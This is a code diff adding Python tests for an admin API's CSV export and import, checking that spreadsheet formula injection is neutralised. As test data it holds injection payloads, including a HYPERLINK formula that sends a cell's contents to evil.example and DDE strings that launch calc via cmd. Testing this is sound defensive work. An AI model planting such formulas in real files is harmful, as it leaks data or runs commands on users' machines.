@@ -199,3 +199,72 @@ async def test_times_with_a_trailing_newline_are_refused(client: httpx.AsyncClie
     )
     assert ok.status_code == 200, ok.text
     assert await FinishTimes.filter(school_urn=SCHOOL).count() == 1
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "address": "+44 1 Formula Road",
+    "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "notes": "-2+3",
+    "accessibility": "'quoted already",
+    "source": "=1+1 and more",
+}
+
+
+async def test_csv_exports_neutralise_formulas_and_imports_round_trip(client: httpx.AsyncClient) -> None:
+    import csv
+    import io
+
+    await login_as(client, role="editor", areas=("southwark",))
+    created = await client.post(
+        "/api/v1/admin/havens",
+        json={"area": "southwark", "kind": "other", "lat": 51.474, "lon": -0.069, **FORMULAS},
+    )
+    assert created.status_code == 201, created.text
+    haven_id = created.json()["id"]
+    exported = await client.get("/api/v1/admin/havens/export.csv", params={"area": "southwark"})
+    assert exported.status_code == 200
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(exported.text))}
+    mine = rows[str(haven_id)]
+    for field, value in FORMULAS.items():
+        assert mine[field] == "'" + value, field  # a spreadsheet shows text, never runs it
+    assert mine["lon"] == "-0.069"  # a plain negative number stays a number
+    for row in rows.values():  # nothing in the file starts a formula
+        for cell in row.values():
+            assert not (cell or "").startswith(("=", "+", "@", "\t", "\r")), cell
+    imported = await client.post(
+        "/api/v1/admin/imports/havens",
+        content="".join(
+            line + "\n" for line in exported.text.splitlines() if line.startswith(("id,", f"{haven_id},"))
+        ).encode(),
+        headers={"content-type": "text/csv"},
+    )
+    assert imported.status_code == 200, imported.text
+    assert imported.json()["updated"] == 1
+    haven = await Haven.get(id=haven_id)
+    for field, value in FORMULAS.items():
+        assert getattr(haven, field) == value, field
+
+
+async def test_service_export_neutralises_channel_values(client: httpx.AsyncClient) -> None:
+    await login_as(client, role="editor", areas=("southwark",))
+    created = await client.post(
+        "/api/v1/admin/services",
+        json={"name": "=cmd|'/c calc'!A1", "needs": ["feeling_low"], "area": "southwark",
+              "channels": [{"kind": "walk_in", "value": "@1 Town Hall Road", "hours": None}]},
+    )  # fmt: skip
+    assert created.status_code == 201, created.text
+    exported = (await client.get("/api/v1/admin/services/export.csv")).text
+    assert "'=cmd|'/c calc'!A1" in exported and "'@1 Town Hall Road" in exported
+    service_id = created.json()["id"]
+    header = exported.splitlines()[0]
+    line = next(row for row in exported.splitlines() if row.startswith(f"{service_id},"))
+    imported = await client.post(
+        "/api/v1/admin/imports/services",
+        content=f"{header}\n{line}\n".encode(),
+        headers={"content-type": "text/csv"},
+    )
+    assert imported.status_code == 200, imported.text
+    service = await HelpService.get(id=service_id)
+    assert service.name == "=cmd|'/c calc'!A1"
+    assert service.channels[0]["value"] == "@1 Town Hall Road"
